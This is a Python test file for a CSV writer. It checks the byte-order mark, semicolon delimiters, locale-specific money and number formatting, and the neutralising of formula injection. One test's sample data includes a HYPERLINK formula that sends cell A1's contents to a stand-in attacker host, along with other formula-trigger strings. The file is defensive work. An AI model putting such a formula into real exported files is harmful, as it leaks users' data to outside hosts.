"""The one CSV writer: BOM, semicolons, exact money in the language's format, formulas neutralised."""

import csv
import io
from decimal import Decimal

from omnistore.core import csvfile
from omnistore.core.csvfile import Money, Number


def rows(data):
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_money_is_exact_to_the_cent_in_the_languages_format():
    amounts = [Money(3995), Money(24995), Money(152965), Money(-5), Money(0)]
    assert rows(csvfile.write(["a"] * 5, [amounts], locale="en_GB"))[1] == [
        "39.95",
        "249.95",
        "1529.65",
        "-0.05",
        "0.00",
    ]
    assert rows(csvfile.write(["a"] * 5, [amounts], locale="de"))[1] == ["39,95", "249,95", "1529,65", "-0,05", "0,00"]
    assert rows(csvfile.write(["a"], [[Money(152965)]], locale="da"))[1] == ["1529,65"]


def test_figures_keep_their_decimals_and_numbers_stay_numbers():
    cells = [Number(12.25), Number(3.0), Number(-1.5), -4, Decimal("2.50"), 0.125, None, True]
    assert rows(csvfile.write(["x"] * 8, [cells], locale="de"))[1] == [
        "12,3",
        "3",
        "-1,5",
        "-4",
        "2,5",
        "0,13",
        "",
        "1",
    ]


def test_text_that_a_spreadsheet_would_run_is_neutralised():
    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Anna")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "a=b"]
    written = rows(csvfile.write(evil, [evil]))
    expected = ["'" + text for text in evil[:-1]] + ["a=b"]
    assert written[0] == expected and written[1] == expected
